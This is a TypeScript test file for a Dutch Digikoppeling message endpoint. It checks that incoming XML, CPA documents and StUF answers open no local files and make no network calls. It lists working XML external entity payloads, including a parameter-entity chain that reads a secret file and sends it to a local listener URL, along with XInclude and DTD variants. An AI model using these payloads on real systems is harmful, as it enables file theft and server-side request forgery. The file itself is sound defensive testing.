/**
 * What comes in opens nothing (RS-F54): a message that points at a file or at an address, in every way that XML knows, goes the whole way
 * through the endpoint while a real listener counts who comes, and while every file that is opened is seen.
 */
import fs from 'node:fs';
import { type AddressInfo, createServer as createListener } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import {
  type Proces,
  proefDatabase,
  type Wereld,
  wereld,
} from '../../src/integratie/digikoppeling/digikoppeling.testhulp.ts';
import { cpaTekst, hunBericht, veranderd } from '../../src/integratie/digikoppeling/partner.testhulp.ts';
import { sql } from '../../src/platform/db/index.ts';
import { CpaFault, parseCpa } from '../../src/standaarden/ebms/index.ts';
import { readStufAnswer } from '../../src/standaarden/stuf/index.ts';
import { XmlFault } from '../../src/standaarden/xml/index.ts';

const GEHEIM = 'kanarie-0b9c1d';
let w: Wereld;
let p: Proces;
let bestand: string;
let bezoekers = 0;
let adres: string;
const listener = createListener((socket) => {
  bezoekers += 1;
  socket.destroy();
});
const geopend: string[] = [];

beforeAll(async () => {
  w = await wereld(await proefDatabase());
  p = w.proces(1);
  bestand = join(fs.mkdtempSync(join(tmpdir(), 'uitgang-')), 'geheim.txt');
  fs.writeFileSync(bestand, GEHEIM);
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  adres = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/x`;
  for (const name of ['openSync', 'readFileSync', 'open', 'readFile', 'createReadStream'] as const) {
    const real = fs[name] as (...args: unknown[]) => unknown;
    vi.spyOn(fs, name).mockImplementation(((path: unknown, ...rest: unknown[]) => {
      geopend.push(String(path));
      return real(path, ...rest);
    }) as never);
  }
});
afterEach(() => w.leeg());
afterAll(async () => {
  vi.restoreAllMocks();
  listener.close();
  fs.rmSync(join(bestand, '..'), { recursive: true });
  await w.sluit();
});

/** Each points at the file and at the listener. */
const WIJZERS: Readonly<Record<string, (xml: string) => string>> = {
  'an external entity': (x) => met(x, `<!DOCTYPE a [<!ENTITY b SYSTEM "file://${bestand}">]>`, '&b;'),
  'an external entity on the network': (x) => met(x, `<!DOCTYPE a [<!ENTITY b SYSTEM "${adres}">]>`, '&b;'),
  'an external entity by a public name': (x) => met(x, `<!DOCTYPE a [<!ENTITY b PUBLIC "b" "${adres}">]>`, '&b;'),
  'an external DTD': (x) => met(x, `<!DOCTYPE a SYSTEM "${adres}">`, ''),
  'an external DTD in a file': (x) => met(x, `<!DOCTYPE a SYSTEM "file://${bestand}">`, ''),
  'a parameter entity': (x) => met(x, `<!DOCTYPE a [<!ENTITY % b SYSTEM "${adres}">%b;]>`, ''),
  'a parameter entity that sends a file': (x) =>
    met(
      x,
      `<!DOCTYPE a [<!ENTITY % f SYSTEM "file://${bestand}"><!ENTITY % e "<!ENTITY s SYSTEM '${adres}?%f;'>">%e;]>`,
      '&s;',
    ),
  'a notation': (x) =>
    met(x, `<!DOCTYPE a [<!NOTATION n SYSTEM "${adres}"><!ENTITY b SYSTEM "${adres}" NDATA n>]>`, ''),
  XInclude: (x) =>
    met(
      x,
      '',
      `<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="file://${bestand}"><i:fallback/></i:include>`,
    ),
  'XInclude on the network': (x) =>
    met(x, '', `<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="${adres}"/>`),
  'the place of a schema': (x) =>
    x.replace(
      '<soap:Envelope',
      `$& xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:x ${adres}"`,
    ),
  'a style sheet': (x) => met(x, `<?xml-stylesheet type="text/xsl" href="${adres}"?>`, ''),
  'xml:base and a link': (x) =>
    met(x, '', `<a xml:base="${adres}" xmlns:l="http://www.w3.org/1999/xlink" l:href="x" l:show="embed"/>`),
  'a payload elsewhere': (x) =>
    x.replace('<soap:Body>', `$&<eb:Manifest eb:version="2.0"><eb:Reference xlink:href="${adres}"/></eb:Manifest>`),
  'a payload in a file': (x) =>
    x.replace(
      '<soap:Body>',
      `$&<eb:Manifest eb:version="2.0"><eb:Reference xlink:href="file://${bestand}"/></eb:Manifest>`,
    ),
  'a namespace that is an address': (x) => met(x, '', `<a xmlns="${adres}"/>`),
};

function met(xml: string, prolog: string, body: string): string {
  const [declaration] = /^<\?xml.*?\?>\s*/s.exec(xml) ?? [''];
  return `${declaration}${prolog}${xml.slice(declaration.length).replace('<soap:Body>', `<soap:Body><vrij>${body}</vrij>`)}`;
}

async function nietsGebeurd(): Promise<void> {
  // One turn of the loop for each thing that could have been set off.
  for (let turn = 0; turn < 3; turn += 1) await new Promise((resolve) => setImmediate(resolve));
  expect(bezoekers).toBe(0);
  expect(geopend.filter((path) => path.includes('geheim.txt'))).toEqual([]);
}

describe('a message with', () => {
  it.each(Object.keys(WIJZERS))('%s opens nothing', async (wat) => {
    const packed = veranderd(w.cpa, WIJZERS[wat]!);
    expect(Buffer.from(packed.body).toString()).toMatch(/kanarie|127\.0\.0\.1|geheim\.txt/);
    const answer = await p.post(packed);
    expect([204, 500]).toContain(answer.status);
    if (Buffer.from(packed.body).includes('<!DOCTYPE')) expect(answer.status).toBe(500);
    const kept = await w.db.query<{ inhoud: Uint8Array }>(sql`
      select inhoud from digikoppeling.signaal union all select inhoud from digikoppeling.ontvangen`);
    const all = [
      answer.body,
      JSON.stringify(w.log),
      ...kept.map(({ inhoud }) => Buffer.from(inhoud).toString()),
    ].join();
    expect(all).not.toContain(GEHEIM);
    expect(w.net.gezien.map(({ url }) => url).filter((url) => url.startsWith(adres))).toEqual([]);
    await nietsGebeurd();
  });

  it.each(Object.keys(WIJZERS))('%s opens nothing, as CPA and as StUF answer', async (wat) => {
    const made = (text: string): string => WIJZERS[wat]!(text);
    const cpa = made(cpaTekst().replace('<p:Start>', '<soap:Body></soap:Body>$&'));
    const stuf = made(
      '<StUF:Fo03Bericht xmlns:StUF="http://www.egem.nl/StUF/StUF0301"><soap:Body xmlns:soap="x"/></StUF:Fo03Bericht>',
    );
    for (const [read, Fault] of [
      [() => parseCpa(cpa), CpaFault],
      [() => readStufAnswer(stuf), XmlFault],
    ] as const) {
      try {
        expect(JSON.stringify(read())).not.toContain(GEHEIM);
      } catch (fault) {
        expect(fault).toBeInstanceOf(Fault);
        expect(String(fault)).not.toContain(GEHEIM);
      }
    }
    await nietsGebeurd();
  });
});

it('the spies do see what is opened, and the listener who comes', async () => {
  expect(fs.readFileSync(bestand, 'utf8')).toBe(GEHEIM);
  expect(geopend.at(-1)).toBe(bestand);
  await fetch(adres).catch(() => undefined);
  expect(bezoekers).toBe(1);
  expect((await p.post(hunBericht(w.cpa))).status).toBe(204);
});
